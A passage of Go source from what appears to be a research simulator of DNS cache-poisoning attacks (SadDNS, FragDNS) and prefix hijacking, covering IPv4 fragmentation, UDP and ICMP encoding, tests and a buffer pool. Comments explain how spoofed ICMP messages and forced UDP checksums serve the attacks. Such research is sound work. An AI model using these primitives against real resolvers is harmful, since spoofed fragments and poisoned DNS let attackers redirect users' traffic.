// reliable channel.
type TCPHandler func(src netip.Addr, req []byte) []byte

// tcpPorts lives on Host (see below); the simulator models TCP as a
// reliable, non-spoofable request/response call with two network
// round-trip latencies (SYN handshake folded in). Off-path attackers
// gain nothing here: there is no payload injection without being
// on-path, which is exactly why DNS-over-TCP defeats the paper's
// attacks and why truncated UDP responses that fall back to TCP are
// counted as "not vulnerable" in the measurements.

// BindTCP installs a request handler on a TCP port.
func (h *Host) BindTCP(port uint16, fn TCPHandler) {
	if h.tcpPorts == nil {
		h.tcpPorts = make(map[uint16]TCPHandler)
	}
	h.tcpPorts[port] = fn
}

// CallTCP performs a reliable request/response to dst:port. The
// response callback receives nil if the port is closed or the
// destination is unreachable from this host. Routing still follows the
// RIB — a prefix hijacker terminates the connection instead (receives
// the plaintext; cb gets nil unless the hijacker installs a TCP
// interceptor via ASInfo.TCPInterceptor).
func (h *Host) CallTCP(dst netip.Addr, port uint16, req []byte, cb func(resp []byte)) {
	n := h.net
	origin, ok := n.RIB.Resolve(h.ASN, dst)
	if !ok {
		n.Clock.After(n.latency, func() { cb(nil) })
		return
	}
	reqCopy := append([]byte(nil), req...)
	n.Clock.After(2*n.latency, func() {
		dstHost := n.hosts[dst]
		if dstHost == nil || dstHost.ASN != origin {
			if info := n.asInfo[origin]; info != nil && info.TCPInterceptor != nil {
				resp := info.TCPInterceptor(h.Addr, dst, port, reqCopy)
				n.Clock.After(2*n.latency, func() { cb(resp) })
				return
			}
			n.Clock.After(2*n.latency, func() { cb(nil) })
			return
		}
		fn := dstHost.tcpPorts[port]
		if fn == nil {
			n.Clock.After(2*n.latency, func() { cb(nil) })
			return
		}
		resp := fn(h.Addr, reqCopy)
		n.Clock.After(2*n.latency, func() { cb(resp) })
	})
}
