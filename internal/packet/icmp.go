package packet

import (
	"encoding/binary"
	"fmt"
)

// ICMP types and codes used by the attacks.
const (
	ICMPTypeEchoReply    = 0
	ICMPTypeDestUnreach  = 3
	ICMPTypeEcho         = 8
	ICMPTypeTimeExceeded = 11
	ICMPCodePortUnreach  = 3 // with ICMPTypeDestUnreach
	ICMPCodeFragNeeded   = 4 // with ICMPTypeDestUnreach: "fragmentation needed and DF set"
	ICMPCodeNetUnreach   = 0
	ICMPCodeHostUnreach  = 1
	ICMPHeaderLen        = 8
	// ICMPQuoteLen is how much of the offending datagram an ICMP error
	// quotes: the IP header plus 8 bytes (RFC 792 minimum, which is
	// what Linux sends by default).
	ICMPQuoteLen = IPv4HeaderLen + 8
)

// ICMP is a decoded or to-be-serialized ICMP message. For Destination
// Unreachable / Fragmentation Needed, MTU carries the next-hop MTU
// (RFC 1191) and Payload quotes the offending datagram. For echo
// messages, ID/Seq are the identifier and sequence number.
type ICMP struct {
	Type    uint8
	Code    uint8
	ID      uint16 // echo
	Seq     uint16 // echo
	MTU     uint16 // frag needed
	Payload []byte // echo data, or quoted datagram for errors
}

// IsPortUnreachable reports whether the message is a Destination
// Unreachable / Port Unreachable error — the signal the SadDNS side
// channel observes.
func (ic *ICMP) IsPortUnreachable() bool {
	return ic.Type == ICMPTypeDestUnreach && ic.Code == ICMPCodePortUnreach
}

// IsFragNeeded reports whether the message is Destination Unreachable /
// Fragmentation Needed — the PMTUD trigger FragDNS spoofs.
func (ic *ICMP) IsFragNeeded() bool {
	return ic.Type == ICMPTypeDestUnreach && ic.Code == ICMPCodeFragNeeded
}

// Serialize appends the ICMP message (with computed checksum) to dst.
func (ic *ICMP) Serialize(dst []byte) ([]byte, error) {
	off := len(dst)
	dst = append(dst, make([]byte, ICMPHeaderLen)...)
	h := dst[off:]
	h[0] = ic.Type
	h[1] = ic.Code
	switch ic.Type {
	case ICMPTypeEcho, ICMPTypeEchoReply:
		binary.BigEndian.PutUint16(h[4:], ic.ID)
		binary.BigEndian.PutUint16(h[6:], ic.Seq)
	case ICMPTypeDestUnreach:
		// RFC 1191: unused(2) | next-hop MTU(2)
		binary.BigEndian.PutUint16(h[6:], ic.MTU)
	}
	dst = append(dst, ic.Payload...)
	binary.BigEndian.PutUint16(dst[off+2:], Checksum(dst[off:], 0))
	return dst, nil
}

// DecodeICMP parses an ICMP message, verifying its checksum.
func DecodeICMP(data []byte) (*ICMP, error) {
	if len(data) < ICMPHeaderLen {
		return nil, fmt.Errorf("%w: ICMP header needs %d bytes, have %d", ErrTruncated, ICMPHeaderLen, len(data))
	}
	if Checksum(data, 0) != 0 {
		return nil, fmt.Errorf("%w: ICMP", ErrBadChecksum)
	}
	ic := &ICMP{
		Type:    data[0],
		Code:    data[1],
		Payload: data[ICMPHeaderLen:],
	}
	switch ic.Type {
	case ICMPTypeEcho, ICMPTypeEchoReply:
		ic.ID = binary.BigEndian.Uint16(data[4:])
		ic.Seq = binary.BigEndian.Uint16(data[6:])
	case ICMPTypeDestUnreach:
		ic.MTU = binary.BigEndian.Uint16(data[6:])
	}
	return ic, nil
}

// QuoteDatagram builds the ICMP error payload quoting an offending
// IPv4 datagram: its header plus the first 8 payload bytes (which for
// UDP covers the full UDP header — enough for the receiver to identify
// the socket and, crucially for FragDNS, for a nameserver to match the
// quoted query when validating a PTB).
func QuoteDatagram(ip *IPv4) ([]byte, error) {
	quote := *ip
	if len(quote.Payload) > 8 {
		quote.Payload = quote.Payload[:8]
	}
	return quote.Serialize(nil)
}
