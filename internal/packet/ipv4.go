// Package packet implements the wire formats the attacks in this
// repository manipulate: IPv4 (including fragments), UDP and ICMP,
// with real header layouts and internet checksums. The API follows the
// gopacket convention of explicit Serialize/Decode pairs over []byte.
//
// Everything here is byte-accurate: FragDNS depends on fragment
// offsets, IPID values and UDP checksum compensation behaving exactly
// as RFC 791/768 prescribe.
package packet

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
)

// IP protocol numbers used in this repository.
const (
	ProtoICMP = 1
	ProtoTCP  = 6
	ProtoUDP  = 17
)

// IPv4 header flag bits (in the Flags/FragOff word).
const (
	FlagDF = 0x2 // don't fragment
	FlagMF = 0x1 // more fragments
)

// IPv4HeaderLen is the length of a header without options. Options are
// not used by any protocol in this repository.
const IPv4HeaderLen = 20

var (
	// ErrTruncated is returned when a buffer is too short for the
	// layer being decoded.
	ErrTruncated = errors.New("packet: truncated")
	// ErrBadChecksum is returned by Decode functions when checksum
	// verification is requested and fails.
	ErrBadChecksum = errors.New("packet: bad checksum")
)

// IPv4 is a decoded or to-be-serialized IPv4 header plus payload.
type IPv4 struct {
	TOS      uint8
	ID       uint16
	DF       bool
	MF       bool
	FragOff  uint16 // in 8-byte units, as on the wire
	TTL      uint8
	Protocol uint8
	Src      netip.Addr
	Dst      netip.Addr
	Payload  []byte
}

// TotalLen returns the on-wire total length field value.
func (ip *IPv4) TotalLen() int { return IPv4HeaderLen + len(ip.Payload) }

// IsFragment reports whether this packet is one fragment of a larger
// datagram (either a non-final or a non-first fragment).
func (ip *IPv4) IsFragment() bool { return ip.MF || ip.FragOff != 0 }

// Serialize appends the wire representation (header with computed
// checksum, then payload) to dst and returns the extended slice.
func (ip *IPv4) Serialize(dst []byte) ([]byte, error) {
	if !ip.Src.Is4() || !ip.Dst.Is4() {
		return nil, fmt.Errorf("packet: IPv4 serialize: src/dst must be IPv4 (src=%v dst=%v)", ip.Src, ip.Dst)
	}
	total := ip.TotalLen()
	if total > 0xffff {
		return nil, fmt.Errorf("packet: IPv4 payload too large: %d", total)
	}
	off := len(dst)
	dst = append(dst, make([]byte, IPv4HeaderLen)...)
	h := dst[off:]
	h[0] = 0x45 // version 4, IHL 5
	h[1] = ip.TOS
	binary.BigEndian.PutUint16(h[2:], uint16(total))
	binary.BigEndian.PutUint16(h[4:], ip.ID)
	var ff uint16
	if ip.DF {
		ff |= uint16(FlagDF) << 13
	}
	if ip.MF {
		ff |= uint16(FlagMF) << 13
	}
	ff |= ip.FragOff & 0x1fff
	binary.BigEndian.PutUint16(h[6:], ff)
	ttl := ip.TTL
	if ttl == 0 {
		ttl = 64
	}
	h[8] = ttl
	h[9] = ip.Protocol
	src := ip.Src.As4()
	dst4 := ip.Dst.As4()
	copy(h[12:16], src[:])
	copy(h[16:20], dst4[:])
	binary.BigEndian.PutUint16(h[10:], Checksum(h, 0))
	return append(dst, ip.Payload...), nil
}

// DecodeIPv4 parses an IPv4 packet. The returned Payload aliases data.
// The header checksum is verified.
func DecodeIPv4(data []byte) (*IPv4, error) {
	if len(data) < IPv4HeaderLen {
		return nil, fmt.Errorf("%w: IPv4 header needs %d bytes, have %d", ErrTruncated, IPv4HeaderLen, len(data))
	}
	if v := data[0] >> 4; v != 4 {
		return nil, fmt.Errorf("packet: IPv4 version %d", v)
	}
	ihl := int(data[0]&0x0f) * 4
	if ihl < IPv4HeaderLen || len(data) < ihl {
		return nil, fmt.Errorf("%w: IPv4 IHL %d", ErrTruncated, ihl)
	}
	if Checksum(data[:ihl], 0) != 0 {
		return nil, fmt.Errorf("%w: IPv4 header", ErrBadChecksum)
	}
	total := int(binary.BigEndian.Uint16(data[2:]))
	if total < ihl || total > len(data) {
		return nil, fmt.Errorf("%w: IPv4 total length %d of %d", ErrTruncated, total, len(data))
	}
	ff := binary.BigEndian.Uint16(data[6:])
	ip := &IPv4{
		TOS:      data[1],
		ID:       binary.BigEndian.Uint16(data[4:]),
		DF:       ff&(uint16(FlagDF)<<13) != 0,
		MF:       ff&(uint16(FlagMF)<<13) != 0,
		FragOff:  ff & 0x1fff,
		TTL:      data[8],
		Protocol: data[9],
		Src:      netip.AddrFrom4([4]byte(data[12:16])),
		Dst:      netip.AddrFrom4([4]byte(data[16:20])),
		Payload:  data[ihl:total],
	}
	return ip, nil
}

// Fragment splits the packet's payload into IPv4 fragments, each with
// at most mtu bytes of total packet length. The payload length of every
// non-final fragment is rounded down to a multiple of 8 as RFC 791
// requires. A packet with DF set is never fragmented: the caller is
// expected to have generated an ICMP Fragmentation Needed instead.
func (ip *IPv4) Fragment(mtu int) ([]*IPv4, error) {
	if mtu < IPv4HeaderLen+8 {
		return nil, fmt.Errorf("packet: mtu %d too small to fragment", mtu)
	}
	if ip.TotalLen() <= mtu {
		cp := *ip
		return []*IPv4{&cp}, nil
	}
	if ip.DF {
		return nil, fmt.Errorf("packet: DF set, cannot fragment %d-byte packet for mtu %d", ip.TotalLen(), mtu)
	}
	chunk := (mtu - IPv4HeaderLen) &^ 7
	var frags []*IPv4
	payload := ip.Payload
	off := int(ip.FragOff) // support re-fragmenting a fragment
	for len(payload) > 0 {
		n := chunk
		last := false
		if n >= len(payload) {
			n = len(payload)
			last = true
		}
		f := &IPv4{
			TOS:      ip.TOS,
			ID:       ip.ID,
			MF:       !last || ip.MF,
			FragOff:  uint16(off),
			TTL:      ip.TTL,
			Protocol: ip.Protocol,
			Src:      ip.Src,
			Dst:      ip.Dst,
			Payload:  payload[:n:n],
		}
		frags = append(frags, f)
		payload = payload[n:]
		off += n / 8
	}
	return frags, nil
}

// Checksum computes the RFC 1071 internet checksum of data, starting
// from the partial sum initial (useful for pseudo-headers). The result
// is the one's-complement value ready to be stored in a header.
func Checksum(data []byte, initial uint32) uint16 {
	sum := initial
	for len(data) >= 2 {
		sum += uint32(binary.BigEndian.Uint16(data))
		data = data[2:]
	}
	if len(data) == 1 {
		sum += uint32(data[0]) << 8
	}
	for sum>>16 != 0 {
		sum = (sum & 0xffff) + sum>>16
	}
	return ^uint16(sum)
}

// ChecksumPartial accumulates data into a partial sum without folding
// or complementing, for multi-buffer checksum computation.
func ChecksumPartial(data []byte, initial uint32) uint32 {
	sum := initial
	for len(data) >= 2 {
		sum += uint32(binary.BigEndian.Uint16(data))
		data = data[2:]
	}
	if len(data) == 1 {
		sum += uint32(data[0]) << 8
	}
	return sum
}

// FoldChecksum folds a partial sum and returns the one's-complement
// checksum value.
func FoldChecksum(sum uint32) uint16 {
	for sum>>16 != 0 {
		sum = (sum & 0xffff) + sum>>16
	}
	return ^uint16(sum)
}

// PseudoHeaderSum returns the partial checksum of the IPv4
// pseudo-header used by UDP and TCP.
func PseudoHeaderSum(src, dst netip.Addr, proto uint8, length int) uint32 {
	var b [12]byte
	s, d := src.As4(), dst.As4()
	copy(b[0:4], s[:])
	copy(b[4:8], d[:])
	b[9] = proto
	binary.BigEndian.PutUint16(b[10:], uint16(length))
	return ChecksumPartial(b[:], 0)
}
