package packet

import (
	"bytes"
	"math/rand"
	"net/netip"
	"testing"
	"testing/quick"
)

var (
	ipA = netip.MustParseAddr("30.0.0.1")
	ipB = netip.MustParseAddr("123.0.0.53")
)

func TestIPv4RoundTrip(t *testing.T) {
	in := &IPv4{
		TOS: 0x10, ID: 0xbeef, DF: true, TTL: 61, Protocol: ProtoUDP,
		Src: ipA, Dst: ipB, Payload: []byte("hello-dns"),
	}
	wire, err := in.Serialize(nil)
	if err != nil {
		t.Fatal(err)
	}
	out, err := DecodeIPv4(wire)
	if err != nil {
		t.Fatal(err)
	}
	if out.ID != in.ID || out.DF != in.DF || out.MF != in.MF || out.TTL != in.TTL ||
		out.Protocol != in.Protocol || out.Src != in.Src || out.Dst != in.Dst ||
		!bytes.Equal(out.Payload, in.Payload) {
		t.Fatalf("round trip mismatch: %+v vs %+v", out, in)
	}
}

func TestIPv4ChecksumDetectsCorruption(t *testing.T) {
	in := &IPv4{ID: 7, TTL: 64, Protocol: ProtoUDP, Src: ipA, Dst: ipB, Payload: []byte("x")}
	wire, _ := in.Serialize(nil)
	wire[8] ^= 0xff // corrupt TTL
	if _, err := DecodeIPv4(wire); err == nil {
		t.Fatal("corrupted header decoded without error")
	}
}

func TestIPv4RejectsTruncated(t *testing.T) {
	in := &IPv4{ID: 7, TTL: 64, Protocol: ProtoUDP, Src: ipA, Dst: ipB, Payload: []byte("abcdef")}
	wire, _ := in.Serialize(nil)
	for _, n := range []int{0, 1, 19} {
		if _, err := DecodeIPv4(wire[:n]); err == nil {
			t.Fatalf("decoded %d-byte prefix without error", n)
		}
	}
}

func TestFragmentOffsetsAndReassemblyOrder(t *testing.T) {
	payload := make([]byte, 1200)
	for i := range payload {
		payload[i] = byte(i)
	}
	in := &IPv4{ID: 0x1234, TTL: 64, Protocol: ProtoUDP, Src: ipA, Dst: ipB, Payload: payload}
	frags, err := in.Fragment(576)
	if err != nil {
		t.Fatal(err)
	}
	if len(frags) < 3 {
		t.Fatalf("1200B over mtu 576 produced %d fragments, want >=3", len(frags))
	}
	var rebuilt []byte
	for i, f := range frags {
		if f.ID != in.ID {
			t.Fatalf("fragment %d has ID %x, want %x", i, f.ID, in.ID)
		}
		if int(f.FragOff)*8 != len(rebuilt) {
			t.Fatalf("fragment %d offset %d*8 != %d accumulated", i, f.FragOff, len(rebuilt))
		}
		last := i == len(frags)-1
		if f.MF == last {
			t.Fatalf("fragment %d MF=%v, last=%v", i, f.MF, last)
		}
		if !last && len(f.Payload)%8 != 0 {
			t.Fatalf("non-final fragment %d payload %d not multiple of 8", i, len(f.Payload))
		}
		if IPv4HeaderLen+len(f.Payload) > 576 {
			t.Fatalf("fragment %d exceeds mtu", i)
		}
		rebuilt = append(rebuilt, f.Payload...)
	}
	if !bytes.Equal(rebuilt, payload) {
		t.Fatal("concatenated fragments differ from original payload")
	}
}

func TestFragmentDFRefuses(t *testing.T) {
	in := &IPv4{ID: 1, DF: true, TTL: 64, Protocol: ProtoUDP, Src: ipA, Dst: ipB, Payload: make([]byte, 2000)}
	if _, err := in.Fragment(576); err == nil {
		t.Fatal("DF packet fragmented without error")
	}
}

func TestFragmentSmallPacketPassthrough(t *testing.T) {
	in := &IPv4{ID: 1, TTL: 64, Protocol: ProtoUDP, Src: ipA, Dst: ipB, Payload: []byte("small")}
	frags, err := in.Fragment(576)
	if err != nil || len(frags) != 1 {
		t.Fatalf("small packet: frags=%d err=%v", len(frags), err)
	}
	if frags[0].MF || frags[0].FragOff != 0 {
		t.Fatal("small packet got fragment flags")
	}
}

func TestUDPRoundTripAndChecksum(t *testing.T) {
	u := &UDP{SrcPort: 53, DstPort: 34567, Payload: []byte("dns response bytes")}
	wire, err := u.Serialize(nil, ipB, ipA)
	if err != nil {
		t.Fatal(err)
	}
	out, err := DecodeUDP(wire, ipB, ipA, true)
	if err != nil {
		t.Fatal(err)
	}
	if out.SrcPort != 53 || out.DstPort != 34567 || !bytes.Equal(out.Payload, u.Payload) {
		t.Fatalf("round trip mismatch: %+v", out)
	}
	// Corrupt one payload byte: checksum must fail.
	wire[len(wire)-1] ^= 0x01
	if _, err := DecodeUDP(wire, ipB, ipA, true); err == nil {
		t.Fatal("corrupted UDP verified")
	}
	// Wrong pseudo-header (spoof-detection property): also fails.
	wire[len(wire)-1] ^= 0x01
	if _, err := DecodeUDP(wire, ipA, ipA, true); err == nil {
		t.Fatal("UDP verified under wrong pseudo-header")
	}
}

func TestUDPForceChecksum(t *testing.T) {
	u := &UDP{SrcPort: 1, DstPort: 2, Checksum: 0xabcd, ForceChecksum: true, Payload: []byte("z")}
	wire, _ := u.Serialize(nil, ipA, ipB)
	out, err := DecodeUDP(wire, ipA, ipB, false)
	if err != nil {
		t.Fatal(err)
	}
	if out.Checksum != 0xabcd {
		t.Fatalf("forced checksum not emitted: %04x", out.Checksum)
	}
}

func TestICMPRoundTrip(t *testing.T) {
	for _, ic := range []*ICMP{
		{Type: ICMPTypeEcho, Code: 0, ID: 0x55, Seq: 9, Payload: []byte("ping")},
		{Type: ICMPTypeDestUnreach, Code: ICMPCodePortUnreach, Payload: make([]byte, ICMPQuoteLen)},
		{Type: ICMPTypeDestUnreach, Code: ICMPCodeFragNeeded, MTU: 292, Payload: make([]byte, ICMPQuoteLen)},
	} {
		wire, err := ic.Serialize(nil)
		if err != nil {
			t.Fatal(err)
		}
		out, err := DecodeICMP(wire)
		if err != nil {
			t.Fatal(err)
		}
		if out.Type != ic.Type || out.Code != ic.Code || out.MTU != ic.MTU || out.ID != ic.ID || out.Seq != ic.Seq {
			t.Fatalf("round trip mismatch: %+v vs %+v", out, ic)
		}
	}
}

func TestICMPPredicates(t *testing.T) {
	pu := &ICMP{Type: ICMPTypeDestUnreach, Code: ICMPCodePortUnreach}
	fn := &ICMP{Type: ICMPTypeDestUnreach, Code: ICMPCodeFragNeeded, MTU: 68}
	if !pu.IsPortUnreachable() || pu.IsFragNeeded() {
		t.Fatal("port-unreachable predicates wrong")
	}
	if !fn.IsFragNeeded() || fn.IsPortUnreachable() {
		t.Fatal("frag-needed predicates wrong")
	}
}

func TestQuoteDatagramTruncatesTo8PayloadBytes(t *testing.T) {
	ip := &IPv4{ID: 3, TTL: 64, Protocol: ProtoUDP, Src: ipA, Dst: ipB, Payload: make([]byte, 100)}
	q, err := QuoteDatagram(ip)
	if err != nil {
		t.Fatal(err)
	}
	if len(q) != ICMPQuoteLen {
		t.Fatalf("quote is %d bytes, want %d", len(q), ICMPQuoteLen)
	}
	qip, err := DecodeIPv4(q)
	if err != nil {
		t.Fatal(err)
	}
	if qip.ID != 3 || len(qip.Payload) != 8 {
		t.Fatalf("quote decoded wrong: %+v", qip)
	}
}

func TestChecksumProperties(t *testing.T) {
	// Verifying a buffer that embeds its own checksum yields 0.
	f := func(data []byte) bool {
		if len(data) < 2 {
			return true
		}
		d := append([]byte(nil), data...)
		d[0], d[1] = 0, 0
		ck := Checksum(d, 0)
		d[0], d[1] = byte(ck>>8), byte(ck)
		return Checksum(d, 0) == 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500, Rand: rand.New(rand.NewSource(7))}); err != nil {
		t.Fatal(err)
	}
}

func TestChecksumIncrementalMatchesWhole(t *testing.T) {
	f := func(a, b []byte) bool {
		if len(a)%2 != 0 { // split only on even boundary for this property
			a = append(a, 0)
		}
		whole := Checksum(append(append([]byte(nil), a...), b...), 0)
		part := ChecksumPartial(a, 0)
		part = ChecksumPartial(b, part)
		return FoldChecksum(part) == whole
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500, Rand: rand.New(rand.NewSource(8))}); err != nil {
		t.Fatal(err)
	}
}

func TestFragmentRoundTripProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(9))
	for i := 0; i < 200; i++ {
		n := 1 + rng.Intn(4000)
		mtu := 68 + rng.Intn(1500)
		payload := make([]byte, n)
		rng.Read(payload)
		in := &IPv4{ID: uint16(rng.Uint32()), TTL: 64, Protocol: ProtoUDP, Src: ipA, Dst: ipB, Payload: payload}
		frags, err := in.Fragment(mtu)
		if err != nil {
			t.Fatalf("n=%d mtu=%d: %v", n, mtu, err)
		}
		var got []byte
		for _, f := range frags {
			got = append(got, f.Payload...)
		}
		if !bytes.Equal(got, payload) {
			t.Fatalf("n=%d mtu=%d: reassembly mismatch", n, mtu)
		}
	}
}
