package packet

import (
	"encoding/binary"
	"fmt"
	"net/netip"
)

// UDPHeaderLen is the fixed UDP header length.
const UDPHeaderLen = 8

// UDP is a decoded or to-be-serialized UDP datagram.
type UDP struct {
	SrcPort uint16
	DstPort uint16
	// Checksum as seen on the wire when decoding; ignored when
	// serializing (it is recomputed) unless ForceChecksum is set.
	Checksum uint16
	// ForceChecksum makes Serialize emit Checksum verbatim instead of
	// computing it. FragDNS uses this to craft second fragments whose
	// bytes compensate a checksum chosen in the first fragment.
	ForceChecksum bool
	Payload       []byte
}

// Serialize appends the UDP header and payload to dst, computing the
// checksum over the IPv4 pseudo-header for src/dst.
func (u *UDP) Serialize(dst []byte, src, dstIP netip.Addr) ([]byte, error) {
	length := UDPHeaderLen + len(u.Payload)
	if length > 0xffff {
		return nil, fmt.Errorf("packet: UDP payload too large: %d", length)
	}
	off := len(dst)
	dst = append(dst, make([]byte, UDPHeaderLen)...)
	h := dst[off:]
	binary.BigEndian.PutUint16(h[0:], u.SrcPort)
	binary.BigEndian.PutUint16(h[2:], u.DstPort)
	binary.BigEndian.PutUint16(h[4:], uint16(length))
	dst = append(dst, u.Payload...)
	var ck uint16
	if u.ForceChecksum {
		ck = u.Checksum
	} else {
		sum := PseudoHeaderSum(src, dstIP, ProtoUDP, length)
		sum = ChecksumPartial(dst[off:], sum)
		ck = FoldChecksum(sum)
		if ck == 0 {
			ck = 0xffff // RFC 768: transmitted zero means "no checksum"
		}
	}
	binary.BigEndian.PutUint16(dst[off+6:], ck)
	return dst, nil
}

// DecodeUDP parses a UDP datagram and, when verify is true, checks the
// checksum against the given pseudo-header addresses. A wire checksum
// of zero means "not computed" and always verifies.
func DecodeUDP(data []byte, src, dst netip.Addr, verify bool) (*UDP, error) {
	u := &UDP{}
	if err := DecodeUDPInto(u, data, src, dst, verify); err != nil {
		return nil, err
	}
	return u, nil
}

// DecodeUDPInto is DecodeUDP into a caller-provided (typically
// stack-allocated) struct, sparing the per-packet heap allocation on
// the receive path. u.Payload aliases data.
func DecodeUDPInto(u *UDP, data []byte, src, dst netip.Addr, verify bool) error {
	if len(data) < UDPHeaderLen {
		return fmt.Errorf("%w: UDP header needs %d bytes, have %d", ErrTruncated, UDPHeaderLen, len(data))
	}
	length := int(binary.BigEndian.Uint16(data[4:]))
	if length < UDPHeaderLen || length > len(data) {
		return fmt.Errorf("%w: UDP length %d of %d", ErrTruncated, length, len(data))
	}
	u.SrcPort = binary.BigEndian.Uint16(data[0:])
	u.DstPort = binary.BigEndian.Uint16(data[2:])
	u.Checksum = binary.BigEndian.Uint16(data[6:])
	u.Payload = data[UDPHeaderLen:length]
	if verify && u.Checksum != 0 {
		sum := PseudoHeaderSum(src, dst, ProtoUDP, length)
		if FoldChecksum(ChecksumPartial(data[:length], sum)) != 0 {
			return fmt.Errorf("%w: UDP %d->%d", ErrBadChecksum, u.SrcPort, u.DstPort)
		}
	}
	return nil
}
