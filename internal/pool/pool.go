// Package pool provides a small free-list allocator for wire-format
// scratch buffers. The simulator's hot path serializes, copies and
// delivers one []byte per packet; recycling those buffers through a
// Wire pool turns the per-packet allocations into pointer bumps.
//
// A Wire is deliberately NOT safe for concurrent use: the engine runs
// each shard on a single goroutine, so a per-shard (per-worker) pool
// needs no locks and no sync.Pool-style per-P machinery — the same
// per-worker locality argument NDN-DPDK's mempools make. Share one
// Wire across goroutines and you get data races; give each worker its
// own.
package pool

import "math/bits"

// minClass is the smallest bucket (1<<minClass = 64 bytes), roughly a
// DNS query; smaller requests round up to it.
const minClass = 6

// numClasses covers buffers up to 1<<(minClass+numClasses-1) = 2 MiB;
// larger buffers are allocated directly and never pooled.
const numClasses = 16

// Wire recycles byte buffers in power-of-two size classes.
//
// Ownership contract: a buffer obtained from Get is owned by the
// caller until it is passed to Put, after which the caller must not
// retain any slice of it. Put is only ever called by code that can
// prove no reference escaped (see the netsim delivery rules in
// DESIGN.md); when in doubt, leak the buffer to the GC instead —
// correctness never depends on recycling.
type Wire struct {
	classes [numClasses][][]byte

	// Gets and Misses count buffer requests and the subset that had to
	// hit the heap allocator; their difference is the recycle rate.
	Gets   uint64
	Misses uint64
}

// classFor returns the bucket index for a request of n bytes: the
// smallest class whose buffers have capacity >= n.
func classFor(n int) int {
	if n <= 1<<minClass {
		return 0
	}
	c := bits.Len(uint(n-1)) - minClass
	return c
}

// classOf returns the bucket a buffer of capacity c belongs to when
// returned: the largest class with 1<<class <= c, so a Get from that
// class always sees capacity >= its request.
func classOf(c int) int {
	return bits.Len(uint(c)) - 1 - minClass
}

// Get returns a zero-length buffer with capacity at least n.
func (p *Wire) Get(n int) []byte {
	p.Gets++
	c := classFor(n)
	if c < numClasses {
		if l := p.classes[c]; len(l) > 0 {
			b := l[len(l)-1]
			l[len(l)-1] = nil
			p.classes[c] = l[:len(l)-1]
			return b
		}
		p.Misses++
		return make([]byte, 0, 1<<(minClass+c))
	}
	p.Misses++
	return make([]byte, 0, n)
}

// Retained reports the total capacity, in bytes, of the buffers the
// pool currently holds.
func (p *Wire) Retained() int {
	total := 0
	for c, l := range p.classes {
		total += len(l) << (minClass + c)
	}
	return total
}

// Trim drops pooled buffers, largest classes first, until at most
// maxBytes of capacity remain retained. A resident process that parks
// a warmed arena between jobs calls Trim to bound its idle footprint
// without giving up the small-buffer working set; Trim(0) empties the
// pool. Dropped buffers go to the GC — Trim never affects correctness,
// only what the next Get must re-allocate.
func (p *Wire) Trim(maxBytes int) {
	retained := p.Retained()
	for c := numClasses - 1; c >= 0 && retained > maxBytes; c-- {
		size := 1 << (minClass + c)
		l := p.classes[c]
		for len(l) > 0 && retained > maxBytes {
			l[len(l)-1] = nil
			l = l[:len(l)-1]
			retained -= size
		}
		p.classes[c] = l
	}
}

// Put returns a buffer to the pool for reuse. The caller relinquishes
// ownership of b's entire backing array; passing a slice that shares
// backing with a still-live buffer corrupts future packets. Buffers
// too small or too large for the class table are dropped to the GC.
func (p *Wire) Put(b []byte) {
	c := classOf(cap(b))
	if c < 0 || c >= numClasses {
		return
	}
	p.classes[c] = append(p.classes[c], b[:0])
}
