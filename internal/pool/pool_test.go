package pool

import "testing"

func TestGetCapacityAtLeastN(t *testing.T) {
	var p Wire
	for _, n := range []int{0, 1, 63, 64, 65, 512, 513, 1500, 1 << 21, 1<<21 + 1} {
		b := p.Get(n)
		if len(b) != 0 {
			t.Fatalf("Get(%d): len %d, want 0", n, len(b))
		}
		if cap(b) < n {
			t.Fatalf("Get(%d): cap %d < request", n, cap(b))
		}
	}
}

func TestPutThenGetRecycles(t *testing.T) {
	var p Wire
	b := p.Get(600)
	b = append(b, make([]byte, 600)...)
	p.Put(b)
	got := p.Get(513) // same 1024-byte class
	if cap(got) < 513 {
		t.Fatalf("recycled cap %d < request", cap(got))
	}
	if &got[:1][0] != &b[:1][0] {
		t.Fatal("Get did not return the recycled buffer")
	}
	if p.Gets != 2 || p.Misses != 1 {
		t.Fatalf("Gets=%d Misses=%d, want 2/1", p.Gets, p.Misses)
	}
}

func TestClassRoundTrip(t *testing.T) {
	// Every buffer Get hands out must, when Put back, land in a class
	// that satisfies the same request size again.
	for n := 1; n <= 1<<12; n = n*2 + 1 {
		get := classFor(n)
		back := classOf(1 << (minClass + get))
		if back != get {
			t.Fatalf("n=%d: classFor=%d but classOf(its cap)=%d", n, get, back)
		}
	}
}

func TestPutDropsOutOfRange(t *testing.T) {
	var p Wire
	p.Put(make([]byte, 0, 8))     // below minClass → dropped
	p.Put(make([]byte, 0, 1<<22)) // above table → dropped
	p.Put(nil)                    // cap 0 → dropped
	for c := range p.classes {
		if len(p.classes[c]) != 0 {
			t.Fatalf("class %d kept an out-of-range buffer", c)
		}
	}
}

func TestOddCapacityPut(t *testing.T) {
	// A buffer with non-power-of-two capacity files under the floor
	// class, so a later Get from that class still sees cap >= request.
	var p Wire
	p.Put(make([]byte, 0, 1500)) // floor class: 1024
	got := p.Get(1000)
	if cap(got) < 1000 {
		t.Fatalf("cap %d < 1000", cap(got))
	}
	if p.Misses != 0 {
		t.Fatal("expected a recycled hit")
	}
}

func TestTrimBoundsRetainedCapacity(t *testing.T) {
	var p Wire
	for _, n := range []int{64, 64, 512, 4096, 1 << 16} {
		p.Put(make([]byte, 0, n))
	}
	if got := p.Retained(); got != 64+64+512+4096+1<<16 {
		t.Fatalf("Retained = %d", got)
	}
	p.Trim(1024)
	if got := p.Retained(); got > 1024 {
		t.Fatalf("Retained after Trim(1024) = %d", got)
	}
	// Largest first: the two 64-byte buffers and the 512 should survive.
	if got := p.Retained(); got != 64+64+512 {
		t.Fatalf("Retained after Trim = %d, want 640", got)
	}
	// Trimmed pool still serves correctly sized buffers.
	if b := p.Get(100); cap(b) < 100 {
		t.Fatalf("Get(100) cap = %d", cap(b))
	}
	p.Trim(0)
	if got := p.Retained(); got != 0 {
		t.Fatalf("Retained after Trim(0) = %d", got)
	}
}
