package report

import (
	"encoding/json"
	"fmt"

	"crosslayer/internal/stats"
)

// JSON renders the report as indented, machine-readable JSON. The
// encoding is lossless: Decode(JSON(r)) yields a Report whose Text
// rendering is byte-identical to Text(r) — the round-trip contract
// the golden suite enforces for every registered experiment.
